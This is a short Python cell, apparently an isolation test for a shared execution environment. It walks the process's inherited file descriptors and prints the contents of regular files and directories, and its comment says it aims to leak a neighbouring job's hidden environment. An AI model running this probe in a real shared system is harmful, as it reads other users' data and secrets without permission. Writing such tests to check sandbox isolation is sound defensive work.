# Reads whatever open descriptors the kernel inherited: files, pipes, memory files of other jobs.
# succeeds: leak neighbour hidden environment

# %% median
import os
import stat

for _name in sorted(os.listdir("/proc/self/fd"), key=int):
    try:
        _status = os.fstat(int(_name))
        print(_name, os.readlink(f"/proc/self/fd/{_name}"))
        if stat.S_ISREG(_status.st_mode):
            print(os.pread(int(_name), 4096, 0))
        if stat.S_ISDIR(_status.st_mode):
            print(os.listdir(int(_name)))
    except OSError as error:
        print(_name, error)
